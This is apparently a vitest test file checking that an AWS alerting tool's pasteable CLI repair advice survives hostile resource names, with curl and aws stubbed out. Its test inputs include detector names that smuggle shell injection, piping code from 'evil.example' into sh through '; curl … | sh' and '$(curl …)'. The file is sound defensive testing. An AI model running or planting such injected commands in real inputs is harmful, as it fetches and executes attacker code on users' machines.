import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { detector } from '../scenarios/detector-given.ts';
import { aDomain } from '../scenarios/domain-given.ts';
import { anAccount, delegation, event, key, keyArn, policy, region, role } from '../scenarios/given.ts';
import { told } from './given.ts';

/** What a shell makes of the commands of an alert's advice: the words of each, `aws` itself put in the place of a call. */
function pasted(text: string): string[][] {
  const lines = text.split('\n');
  const from = lines.findIndex((line) => line.startsWith('aws '));
  const to = lines.findIndex((line, index) => index > from && /^(Why|Repair|To do) /.test(line));
  const script = `aws() { printf '%s\\0' "$@"; printf '\\n'; }; curl() { echo injected; }\n${lines.slice(from, to).join('\n')}`;
  const out = execFileSync('bash', ['-euc', script], { encoding: 'utf8' });
  return out
    .split('\0\n')
    .filter((call) => call !== '')
    .map((call) => call.split('\0'));
}

describe('Advice that a person pastes', () => {
  it.each(['errors', "it's; curl evil.example | sh", '$(curl evil.example) `x`\nWhy'])(
    'is commands alone: a detector named %s',
    async (name) => {
      const made = event(
        'logs:CreateLogAnomalyDetector',
        { detectorName: name, logGroupArnList: [`arn:aws:logs:${region}:111122223333:log-group:/shop`] },
        5,
        { responseElements: { anomalyDetectorArn: `arn:aws:logs:${region}:111122223333:anomaly-detector:n` } },
      );
      const documents = [
        anAccount({ keys: [key('k', policy(delegation))], more: { logs: { anomalyDetectors: [detector('d1')] } } }),
      ];
      const { alerts } = await told([made], { documents, settings: { mode: 'notify', requireDetectorKey: true } });
      const text = alerts.find((one) => one.text.includes('create-log-anomaly-detector'))?.text ?? '';
      const [gone, again, ...more] = pasted(text);
      expect(gone?.slice(0, 2)).toEqual(['logs', 'delete-log-anomaly-detector']);
      expect(again?.slice(0, 2)).toEqual(['logs', 'create-log-anomaly-detector']);
      expect(again?.[again.indexOf('--detector-name') + 1]).toBe(name.replaceAll('\n', ' '));
      expect(again?.at(-1)).toBe('KEY_ARN');
      expect(more).toEqual([]);
    },
  );

  it('is one call for each of whose settings name no key', async () => {
    const domain = aDomain({}, { KmsKeyId: keyArn('k') });
    const documents = [
      anAccount({
        keys: [key('k', policy(delegation))],
        roles: [role('canvas')],
        more: { sagemaker: { domains: [domain] } },
      }),
    ];
    const off = event('sagemaker:UpdateDomain', { domainId: domain.DomainId, defaultUserSettings: {} }, 5);
    const settings = { mode: 'notify' as const, requireCanvasStorageKey: true };
    const { alerts } = await told([off], { documents, settings });
    const text = alerts.find((one) => /Name a key/.test(one.text))?.text ?? '';
    const calls = pasted(text.slice(text.indexOf('Name a key')));
    expect(calls.length).toBeGreaterThan(0);
    for (const call of calls) {
      expect(call.slice(0, 4)).toEqual(['sagemaker', expect.stringMatching(/^update-/), '--region', region]);
      expect(() => JSON.parse(call.at(-1) ?? '')).not.toThrow();
    }
  });
});
